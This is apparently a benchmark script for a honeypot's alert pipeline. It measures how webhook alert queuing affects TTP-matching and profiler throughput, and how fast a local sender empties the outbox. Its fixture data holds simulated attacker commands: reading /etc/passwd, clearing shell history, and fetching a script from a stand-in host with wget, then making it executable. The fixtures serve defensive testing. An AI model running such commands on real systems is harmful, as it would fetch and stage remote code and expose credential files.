#!/usr/bin/env node
/**
 * Webhook benchmark: what queueing alerts costs the ticks, and how fast the
 * sender empties the outbox. Same-run baselines: the ttp drain and the
 * profiler drain over the same lines without alerts (no `alerts` option),
 * then with them (each tick asks which techniques its attackers did not
 * have, and queues first sightings and new techniques in its transaction);
 * the sender's rate against a receiver on 127.0.0.1 that answers 200 at once.
 * Prints a markdown table.
 *
 *   npm run build && node --import tsx bench/webhook.js [--count 100000] [--attackers 2000] [--reps 3] [--dialects sqlite,postgres]
 */
import {createServer} from 'node:http'
import {performance} from 'node:perf_hooks'
import {parseArgs} from 'node:util'

import {dialectOf, migrateToLatest, openDatabase} from '../dist/db/index.js'
import {Matcher} from '../dist/ttp/matcher.js'
import {loadRules} from '../dist/ttp/rule-loader.js'
import {AlertQueue} from '../dist/workers/alerts/alert-queue.js'
import {WebhookSender} from '../dist/workers/alerts/webhook-sender.js'
import {Profiler} from '../dist/workers/profiler/profiler.js'
import {TTP_CURSOR, ttpDrain} from '../dist/workers/ttp/tick.js'
import {freshDatabase} from '../test/helpers/databases.js'
import {describeMachine, loadAverage, machineHeader} from './lib/machine.js'
import {markdownTable} from './lib/markdown-table.js'

const {values} = parseArgs({
  options: {
    attackers: {default: '2000', type: 'string'},
    count: {default: '100000', type: 'string'},
    dialects: {default: 'sqlite,postgres', type: 'string'},
    reps: {default: '3', type: 'string'},
  },
})
const count = Number(values.count)
const attackers = Number(values.attackers)
const reps = Number(values.reps)
const matcher = new Matcher((await loadRules()).rules)
const COMMANDS = ['uname -a', 'id', 'cat /etc/passwd', 'history -c', 'wget http://198.51.100.9/x.sh -O /tmp/x.sh', 'chmod +x /tmp/x.sh', 'ls -la', 'crontab -l', 'ps aux', 'whoami']
const median = (list) => [...list].sort((a, b) => a - b)[Math.floor(list.length / 2)]

function rows() {
  const start = Date.UTC(2026, 10, 26)
  return Array.from({length: count}, (_, i) => {
    const ip = `10.${(i % attackers) >> 8}.${(i % attackers) & 255}.7`
    const command = COMMANDS[(i * 7 + Math.floor(i / attackers)) % COMMANDS.length]
    const timestamp = new Date(start + i * 1000).toISOString()
    const fields = JSON.stringify({command, src_ip: ip})
    return {attacker_ip: ip, decky: 'decky-01', event_type: 'command', fields, msg: null, raw_line: `<14>1 ${timestamp} decky-01 ssh - command [x src_ip="${ip}" command="${command}"]`, service: 'ssh', timestamp}
  })
}

async function reset(db) {
  for (const table of ['ttp_tags', 'auth_failures', 'alert_outbox', 'attackers', 'attacker_command_batches', 'attacker_services', 'attacker_behavior']) await db.deleteFrom(table).execute()
  await db.updateTable('worker_state').set({cursor: 0}).execute()
}

async function timed(fn) {
  const start = performance.now()
  await fn()
  return performance.now() - start
}

async function receiver() {
  const server = createServer((req, res) => req.resume().on('end', () => res.writeHead(200).end()))
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve))
  return server
}

const table = []
const server = await receiver()
for (const kind of values.dialects.split(',')) {
  const database = await freshDatabase(kind)
  const db = await openDatabase(database.url)
  try {
    await migrateToLatest(db)
    const lines = rows()
    for (let i = 0; i < lines.length; i += 2000) await db.insertInto('logs').values(lines.slice(i, i + 2000)).execute()
    const times = {profilerOff: [], profilerOn: [], send: [], ttpOff: [], ttpOn: []}
    let queued = 0
    for (let rep = 0; rep < reps; rep++) {
      for (const on of [false, true]) {
        await reset(db)
        const alerts = on ? new AlertQueue({maxQueue: 10_000_000}) : undefined
        times[on ? 'ttpOn' : 'ttpOff'].push(await timed(() => ttpDrain(db, {alerts, matcher})))
        times[on ? 'profilerOn' : 'profilerOff'].push(await timed(() => new Profiler(db, {alerts}).drain()))
      }

      queued = Number((await db.selectFrom('alert_outbox').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n)
      const sender = new WebhookSender(db, {concurrency: 4, maxBackoffMs: 1000, secret: 'bench', timeoutMs: 10_000, url: new URL(`http://127.0.0.1:${server.address().port}/`)})
      times.send.push(await timed(() => sender.pass(new AbortController().signal)))
    }

    const rate = (ms) => `${Math.round(count / (ms / 1000)).toLocaleString('en')}`
    table.push(
      [kind, 'ttp drain', rate(median(times.ttpOff)), rate(median(times.ttpOn)), `${(median(times.ttpOff) / median(times.ttpOn)).toFixed(2)}`],
      [kind, 'profiler drain', rate(median(times.profilerOff)), rate(median(times.profilerOn)), `${(median(times.profilerOff) / median(times.profilerOn)).toFixed(2)}`],
      [kind, `sender: ${queued} alerts`, '', `${Math.round(queued / (median(times.send) / 1000)).toLocaleString('en')} alerts/s`, ''],
    )
    process.stderr.write(`${kind} (${dialectOf(db)}): done\n`)
  } finally {
    await db.destroy()
    await database.cleanup()
  }
}

server.close()
console.log(machineHeader(describeMachine()).join('\n'))
console.log(`load average at the end: ${loadAverage()}; ${count} command lines from ${attackers} attackers, median of ${reps}\n`)
console.log(markdownTable(['database', 'what', 'lines/s without alerts', 'with alerts', 'ratio'], table))
